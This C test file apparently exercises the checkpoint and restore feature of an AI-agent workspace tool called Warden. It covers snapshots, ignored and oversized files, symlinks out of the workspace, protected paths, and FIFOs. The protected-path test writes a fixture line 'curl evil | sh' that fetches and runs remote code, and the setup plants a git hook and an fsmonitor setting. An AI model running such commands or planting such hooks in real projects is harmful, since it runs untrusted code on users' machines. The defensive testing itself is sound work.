/* test-checkpoints.c: the workspace's files before each step, and putting them back
 *
 * Copyright 2026 The Warden authors
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

#include "config.h"

#include <errno.h>
#include <fcntl.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include <glib/gstdio.h>

#include "workspace/warden-checkpoints.h"
#include "warden-test-util.h"

typedef struct
{
  char              *tmp;
  char              *root;      /* tmp/ws */
  char              *outside;   /* tmp/outside: never written */
  char              *shadows;   /* tmp/shadows: the checkpoints' folder */
  WardenCheckpoints *cp;
} Fixture;

static char *
ws_path (Fixture    *f,
         const char *rel)
{
  return g_build_filename (f->root, rel, NULL);
}

static void
put_bytes (Fixture    *f,
           const char *rel,
           const char *data,
           gsize       len,
           int         mode)
{
  g_autofree char *path = ws_path (f, rel);
  g_autofree char *dir = g_path_get_dirname (path);
  g_autoptr(GError) error = NULL;

  g_assert_cmpint (g_mkdir_with_parents (dir, 0755), ==, 0);
  g_file_set_contents (path, data, (gssize) len, &error);
  g_assert_no_error (error);
  g_assert_cmpint (chmod (path, mode), ==, 0);
}

static void
put (Fixture    *f,
     const char *rel,
     const char *text)
{
  put_bytes (f, rel, text, strlen (text), 0644);
}

static void
fixture_setup (Fixture       *f,
               gconstpointer  data)
{
  g_autoptr(GError) error = NULL;

  f->tmp = g_dir_make_tmp ("warden-checkpoints-XXXXXX", &error);
  g_assert_no_error (error);
  f->root = g_build_filename (f->tmp, "ws", NULL);
  f->outside = g_build_filename (f->tmp, "outside", NULL);
  f->shadows = g_build_filename (f->tmp, "shadows", NULL);
  g_assert_cmpint (g_mkdir (f->root, 0755), ==, 0);
  g_assert_cmpint (g_mkdir (f->outside, 0755), ==, 0);
  /* A project of its own repository, whose .git must not change. */
  put (f, ".git/HEAD", "ref: refs/heads/main\n");
  put (f, ".git/config", "[core]\n\tbare = false\n[core]\n\tfsmonitor = /bin/false\n");
  put (f, ".git/hooks/post-checkout", "#!/bin/sh\ntouch HOOK-RAN\n");
  put (f, ".git/index", "not an index");
  put (f, "README.md", "hello\n");
  put (f, "src/main.c", "int main (void) { return 0; }\n");
  f->cp = warden_checkpoints_new (f->root, f->shadows, &error);
  g_assert_no_error (error);
}

static void
fixture_teardown (Fixture       *f,
                  gconstpointer  data)
{
  g_clear_object (&f->cp);
  warden_test_remove_tree (f->tmp);
  g_free (f->tmp);
  g_free (f->root);
  g_free (f->outside);
  g_free (f->shadows);
}

static char *
record (Fixture    *f,
        const char *message)
{
  g_autoptr(GError) error = NULL;
  char *id = warden_checkpoints_record (f->cp, message, &error);

  g_assert_no_error (error);
  g_assert_nonnull (id);
  g_assert_cmpuint (strlen (id), ==, 40);
  return id;
}

static GPtrArray *
restore (Fixture    *f,
         const char *to,
         char      **undo)
{
  g_autoptr(GError) error = NULL;
  GPtrArray *changes = NULL;

  g_assert_true (warden_checkpoints_restore (f->cp, to, undo, &changes, &error));
  g_assert_no_error (error);
  return changes;
}

/* "created a", "deleted b/c": what a list of changes says, one a line. */
static char *
changes_text (GPtrArray *changes)
{
  GString *out = g_string_new (NULL);

  for (guint i = 0; i < changes->len; i++)
    {
      WardenFileChange *c = g_ptr_array_index (changes, i);

      g_string_append_printf (out, "%s %s%s%s\n", warden_file_change_kind_to_string (c->kind),
                              c->path, c->binary ? " (binary)" : "",
                              c->skipped ? " (skipped)" : "");
    }
  return g_string_free (out, FALSE);
}

/* The steps of a session: a write, an edit, and commands that create,
 * change and delete files, binary ones too, and folders. Restoring to
 * before each step gives exactly the tree of that moment. */
static void
test_each_step (Fixture       *f,
                gconstpointer  data)
{
  static const char png[] = "\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\xff\xfe";
  g_autofree char *git_before = NULL;
  g_autofree char *git_after = NULL;
  g_autofree char *shadow_rel = NULL;
  char *ids[5];
  char *trees[5];
  g_autofree char *final = NULL;

  {
    g_autofree char *git = ws_path (f, ".git");

    git_before = warden_test_describe_tree (git, TRUE);
  }

  ids[0] = record (f, "before step 1");
  trees[0] = warden_test_describe_tree (f->root, FALSE);
  /* a write */
  put (f, "notes.txt", "a new file\n");
  ids[1] = record (f, "before step 2");
  trees[1] = warden_test_describe_tree (f->root, FALSE);
  /* an edit */
  put (f, "src/main.c", "int main (void) { return 1; }\n");
  ids[2] = record (f, "before step 3");
  trees[2] = warden_test_describe_tree (f->root, FALSE);
  /* a command: a binary file, an executable, a deeper folder, a deletion */
  put_bytes (f, "assets/logo.png", png, sizeof png - 1, 0644);
  put_bytes (f, "build.sh", "#!/bin/sh\n", 10, 0755);
  put (f, "gen/a/b/out.txt", "generated\n");
  {
    g_autofree char *readme = ws_path (f, "README.md");

    g_assert_cmpint (g_unlink (readme), ==, 0);
  }
  ids[3] = record (f, "before step 4");
  trees[3] = warden_test_describe_tree (f->root, FALSE);
  /* a command: changes the binary, a link in place of a file, a file in
   * place of a folder */
  put_bytes (f, "assets/logo.png", "\0\1\2", 3, 0644);
  {
    g_autofree char *main_c = ws_path (f, "src/main.c");
    g_autofree char *gen = ws_path (f, "gen");

    g_assert_cmpint (g_unlink (main_c), ==, 0);
    g_assert_cmpint (symlink ("../notes.txt", main_c), ==, 0);
    warden_test_remove_tree (gen);
  }
  put (f, "gen", "now a file\n");
  ids[4] = record (f, "before step 5");
  trees[4] = warden_test_describe_tree (f->root, FALSE);

  {
    g_autoptr(GPtrArray) step3 = NULL;
    g_autofree char *text = NULL;
    g_autoptr(GError) error = NULL;

    step3 = warden_checkpoints_diff (f->cp, ids[3], ids[4], &error);
    g_assert_no_error (error);
    text = changes_text (step3);
    g_assert_cmpstr (text, ==,
                     "changed assets/logo.png (binary)\n"
                     "created gen\n"
                     "deleted gen/a/b/out.txt\n"
                     "changed src/main.c\n");
  }

  /* Back to each moment, newest first, then forth again. */
  for (int i = 4; i >= 0; i--)
    {
      g_autoptr(GPtrArray) changes = restore (f, ids[i], NULL);
      g_autofree char *now = warden_test_describe_tree (f->root, FALSE);

      g_assert_cmpstr (now, ==, trees[i]);
    }
  for (int i = 1; i <= 4; i++)
    {
      g_autoptr(GPtrArray) changes = restore (f, ids[i], NULL);
      g_autofree char *now = warden_test_describe_tree (f->root, FALSE);

      g_assert_cmpstr (now, ==, trees[i]);
    }

  /* The project's repository is as it was; no hook ran; nothing of the
   * shadow is in the workspace. */
  {
    g_autofree char *git = ws_path (f, ".git");
    g_autofree char *hook = ws_path (f, "HOOK-RAN");

    git_after = warden_test_describe_tree (git, TRUE);
    g_assert_cmpstr (git_after, ==, git_before);
    g_assert_false (g_file_test (hook, G_FILE_TEST_EXISTS));
    g_assert_true (g_str_has_prefix (warden_checkpoints_get_path (f->cp), f->shadows));
  }
  final = warden_test_describe_tree (f->root, FALSE);
  g_assert_null (strstr (final, "warden"));
  for (int i = 0; i < 5; i++)
    {
      g_free (ids[i]);
      g_free (trees[i]);
    }
}

/* The restore is a checkpoint: restoring to it undoes the restore. */
static void
test_restore_of_restore (Fixture       *f,
                         gconstpointer  data)
{
  g_autofree char *first = record (f, "before step 1");
  g_autofree char *later = NULL;
  g_autofree char *undo = NULL;
  g_autoptr(GPtrArray) changes = NULL;
  g_autoptr(GPtrArray) back = NULL;
  g_autofree char *text = NULL;
  g_autofree char *now = NULL;

  put (f, "README.md", "changed\n");
  put (f, "new.txt", "new\n");
  later = warden_test_describe_tree (f->root, FALSE);

  changes = restore (f, first, &undo);
  g_assert_nonnull (undo);
  text = changes_text (changes);
  g_assert_cmpstr (text, ==, "changed README.md\ndeleted new.txt\n");

  back = restore (f, undo, NULL);
  now = warden_test_describe_tree (f->root, FALSE);
  g_assert_cmpstr (now, ==, later);

  /* What the preview shows: each file under a line that names it, no git
   * headers a view would colour as removed and added. */
  {
    g_autoptr(GError) error = NULL;
    g_autofree char *diff = warden_checkpoints_diff_text (f->cp, undo, first, &error);

    g_assert_no_error (error);
    g_assert_cmpstr (diff, ==,
                     "\\ README.md\n@@ -1 +1 @@\n-changed\n+hello\n"
                     "\\ new.txt\n@@ -1 +0,0 @@\n-new\n");
  }
}

/* Ignored files, node_modules, big files: not recorded, never touched. */
static void
test_ignored (Fixture       *f,
              gconstpointer  data)
{
  g_autofree char *first = NULL;
  g_autofree char *second = NULL;
  g_autofree char *big = g_malloc0 (WARDEN_CHECKPOINT_MAX_FILE_SIZE + 1);
  g_autoptr(GPtrArray) diff = NULL;
  g_autoptr(GPtrArray) changes = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree char *text = NULL;

  put (f, ".gitignore", "build/\n*.log\n");
  first = record (f, "before");
  put (f, "build/app.o", "object\n");
  put (f, "debug.log", "log\n");
  put (f, "node_modules/left-pad/index.js", "module.exports = 1;\n");
  put (f, "web/node_modules/x/index.js", "1;\n");
  put_bytes (f, "data.bin", big, WARDEN_CHECKPOINT_MAX_FILE_SIZE + 1, 0644);
  put (f, "kept.txt", "kept\n");
  /* A repository of its own inside (a vendored checkout): left out whole. */
  put (f, "vendor/lib/.git/HEAD", "ref: refs/heads/main\n");
  put (f, "vendor/lib/lib.c", "int lib;\n");
  second = record (f, "after");

  diff = warden_checkpoints_diff (f->cp, first, second, &error);
  g_assert_no_error (error);
  text = changes_text (diff);
  g_assert_cmpstr (text, ==, "created kept.txt\n");

  changes = restore (f, first, NULL);
  g_clear_pointer (&text, g_free);
  text = changes_text (changes);
  g_assert_cmpstr (text, ==, "deleted kept.txt\n");
  {
    const char *stay[] = { "build/app.o", "debug.log", "node_modules/left-pad/index.js",
                           "web/node_modules/x/index.js", "data.bin", "vendor/lib/lib.c",
                           "vendor/lib/.git/HEAD" };

    for (guint i = 0; i < G_N_ELEMENTS (stay); i++)
      {
        g_autofree char *path = ws_path (f, stay[i]);

        g_assert_true (g_file_test (path, G_FILE_TEST_IS_REGULAR));
      }
  }
}

/* A folder that became a link out of the workspace: the restore writes
 * nothing through it; it puts the folder back in the link's place. */
static void
test_symlink_out (Fixture       *f,
                  gconstpointer  data)
{
  g_autofree char *first = record (f, "before");
  g_autofree char *src = ws_path (f, "src");
  g_autofree char *outside_before = NULL;
  g_autofree char *outside_after = NULL;
  g_autofree char *now = NULL;
  g_autofree char *tree = warden_test_describe_tree (f->root, FALSE);
  g_autoptr(GPtrArray) changes = NULL;

  put (f, "../outside/main.c", "outside's own\n");
  warden_test_remove_tree (src);
  g_assert_cmpint (symlink (f->outside, src), ==, 0);
  outside_before = warden_test_describe_tree (f->outside, TRUE);

  changes = restore (f, first, NULL);
  outside_after = warden_test_describe_tree (f->outside, TRUE);
  g_assert_cmpstr (outside_after, ==, outside_before);
  now = warden_test_describe_tree (f->root, FALSE);
  g_assert_cmpstr (now, ==, tree);
}

/* A protected path a command changed is not written back, and says so. */
static void
test_protected (Fixture       *f,
                gconstpointer  data)
{
  g_autofree char *first = NULL;
  g_autofree char *text = NULL;
  g_autofree char *envrc = ws_path (f, ".envrc");
  g_autoptr(GPtrArray) changes = NULL;

  put (f, ".envrc", "export A=1\n");
  first = record (f, "before");
  put (f, ".envrc", "curl evil | sh\n");
  put (f, ".vscode/tasks.json", "{}\n");
  put (f, "README.md", "changed\n");

  changes = restore (f, first, NULL);
  text = changes_text (changes);
  g_assert_cmpstr (text, ==,
                   "changed .envrc (skipped)\n"
                   "deleted .vscode/tasks.json (skipped)\n"
                   "changed README.md\n");
  {
    g_autofree char *content = NULL;

    g_assert_true (g_file_get_contents (envrc, &content, NULL, NULL));
    g_assert_cmpstr (content, ==, "curl evil | sh\n");
  }
}

/* Every file's times an hour back: none is racily clean (changed in the
 * index's own instant), so the quick check for "nothing changed" holds. */
static void
age_tree (const char *dir)
{
  g_autoptr(GDir) d = g_dir_open (dir, 0, NULL);
  const char *name;

  while (d != NULL && (name = g_dir_read_name (d)) != NULL)
    {
      g_autofree char *path = g_build_filename (dir, name, NULL);
      struct timespec times[2];
      struct stat st;

      g_assert_cmpint (lstat (path, &st), ==, 0);
      if (S_ISDIR (st.st_mode))
        age_tree (path);
      times[0].tv_sec = times[1].tv_sec = st.st_mtim.tv_sec - 3600;
      times[0].tv_nsec = times[1].tv_nsec = 0;
      g_assert_cmpint (utimensat (AT_FDCWD, path, times, AT_SYMLINK_NOFOLLOW), ==, 0);
    }
}

static void
assert_changes (Fixture    *f,
                const char *from,
                const char *to,
                const char *expected)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) diff = warden_checkpoints_diff (f->cp, from, to, &error);
  g_autofree char *text = NULL;

  g_assert_no_error (error);
  text = changes_text (diff);
  g_assert_cmpstr (text, ==, expected);
}

/* Nothing changed: the same checkpoint, at the cost of a stat a file. Any
 * change, even one that keeps size and modification time, is a new one;
 * ignored and too big files are no change. */
static void
test_unchanged (Fixture       *f,
                gconstpointer  data)
{
  g_autofree char *a = NULL;
  g_autofree char *b = NULL;
  g_autofree char *c = NULL;
  g_autofree char *d = NULL;
  g_autofree char *e = NULL;
  g_autofree char *g = NULL;
  g_autofree char *readme = ws_path (f, "README.md");
  g_autofree char *big = g_malloc0 (WARDEN_CHECKPOINT_MAX_FILE_SIZE + 1);
  struct timespec times[2];
  struct stat st;

  put (f, ".gitignore", "build/\n");
  put (f, "vendor/lib/.git/HEAD", "ref: refs/heads/main\n");
  put (f, "vendor/lib/lib.c", "int lib;\n");
  age_tree (f->root);
  a = record (f, "first");
  /* The first record rewrote racily clean entries; the next settles. */
  b = record (f, "second");
  c = record (f, "third");
  g_assert_cmpstr (c, ==, b);

  /* Same size, same modification time, other bytes: the change time says. */
  g_assert_cmpint (stat (readme, &st), ==, 0);
  put (f, "README.md", "HELLO\n");
  times[0] = times[1] = st.st_mtim;
  g_assert_cmpint (utimensat (AT_FDCWD, readme, times, 0), ==, 0);
  d = record (f, "sneaky");
  g_assert_cmpstr (d, !=, c);
  assert_changes (f, c, d, "changed README.md\n");

  /* Ignored, too big, another repository's: no change. */
  put (f, "build/out.o", "object\n");
  put (f, "node_modules/x/index.js", "1;\n");
  put (f, "vendor/lib/new.c", "int n;\n");
  put_bytes (f, "data.bin", big, WARDEN_CHECKPOINT_MAX_FILE_SIZE + 1, 0644);
  age_tree (f->root);
  g_free (record (f, "settle"));
  e = record (f, "ignored");
  g_free (g);
  g = record (f, "ignored again");
  g_assert_cmpstr (g, ==, e);
  assert_changes (f, d, e, "");

  /* A new file, a deleted one: new checkpoints. */
  g_clear_pointer (&g, g_free);
  put (f, "new.txt", "new\n");
  g = record (f, "new");
  assert_changes (f, e, g, "created new.txt\n");
  g_assert_cmpint (g_unlink (readme), ==, 0);
  age_tree (f->root);
  g_free (e);
  e = record (f, "deleted");
  assert_changes (f, g, e, "deleted README.md\n");
}

/* A checkpoint that is not there: a clear error, nothing changed. */
static void
test_unknown (Fixture       *f,
              gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *before = warden_test_describe_tree (f->root, FALSE);
  g_autofree char *after = NULL;
  char *undo = NULL;

  g_assert_false (warden_checkpoints_restore (f->cp, "0123456789012345678901234567890123456789",
                                              &undo, NULL, &error));
  g_assert_error (error, WARDEN_CHECKPOINT_ERROR, WARDEN_CHECKPOINT_ERROR_NOT_FOUND);
  g_assert_null (undo);
  after = warden_test_describe_tree (f->root, FALSE);
  g_assert_cmpstr (after, ==, before);
}

/* What a hostile command leaves for the host to read: a FIFO nobody
 * writes (an open for reading would wait forever) and a unix socket. The
 * checkpoint after it neither hangs nor fails, and holds neither; a
 * restore leaves them be and puts the files back. Run in a child with a
 * time limit, so that a hang fails the test instead of stopping it. */
static void
test_special_files (Fixture       *f,
                    gconstpointer  data)
{
  g_autofree char *first = record (f, "before");
  g_autofree char *fifo = ws_path (f, "pipe");
  g_autofree char *made = ws_path (f, "new.c");
  g_autofree char *sock_path = ws_path (f, "sock");
  struct sockaddr_un addr = { .sun_family = AF_UNIX };
  int sock = socket (AF_UNIX, SOCK_STREAM, 0);
  pid_t pid;
  int status;

  g_assert_cmpint (mkfifo (fifo, 0644), ==, 0);
  g_assert_cmpuint (strlen (sock_path), <, sizeof addr.sun_path);
  strcpy (addr.sun_path, sock_path);
  g_assert_cmpint (bind (sock, (struct sockaddr *) &addr, sizeof addr), ==, 0);
  put (f, "new.c", "made with them\n");

  pid = fork ();
  g_assert_cmpint (pid, >=, 0);
  if (pid == 0)
    {
      g_autoptr(GError) error = NULL;
      g_autofree char *second = NULL;
      g_autoptr(GPtrArray) diff = NULL;
      g_autofree char *text = NULL;
      GPtrArray *changes = NULL;

      alarm (60);
      second = warden_checkpoints_record (f->cp, "with a fifo and a socket", &error);
      if (second == NULL)
        _exit (2);
      diff = warden_checkpoints_diff (f->cp, first, second, &error);
      if (diff == NULL)
        _exit (3);
      text = changes_text (diff);
      if (strstr (text, "pipe") != NULL || strstr (text, "sock") != NULL ||
          strstr (text, "new.c") == NULL)
        _exit (4);
      if (!warden_checkpoints_restore (f->cp, first, NULL, &changes, &error))
        _exit (5);
      g_ptr_array_unref (changes);
      _exit (g_file_test (fifo, G_FILE_TEST_EXISTS) ? 0 : 6);
    }
  g_assert_cmpint (waitpid (pid, &status, 0), ==, pid);
  g_test_message ("child: %s %d", WIFSIGNALED (status) ? "signal" : "exit",
                  WIFSIGNALED (status) ? WTERMSIG (status) : WEXITSTATUS (status));
  g_assert_true (WIFEXITED (status));
  g_assert_cmpint (WEXITSTATUS (status), ==, 0);
  g_assert_false (g_file_test (made, G_FILE_TEST_EXISTS));
  close (sock);
}

int
main (int    argc,
      char **argv)
{
  g_test_init (&argc, &argv, NULL);

#define ADD(path, func) \
  g_test_add ("/checkpoints/" path, Fixture, NULL, fixture_setup, func, fixture_teardown)
  ADD ("each-step", test_each_step);
  ADD ("restore-of-restore", test_restore_of_restore);
  ADD ("ignored", test_ignored);
  ADD ("symlink-out", test_symlink_out);
  ADD ("protected", test_protected);
  ADD ("unknown", test_unknown);
  ADD ("unchanged", test_unchanged);
  ADD ("special-files", test_special_files);
#undef ADD

  return g_test_run ();
}
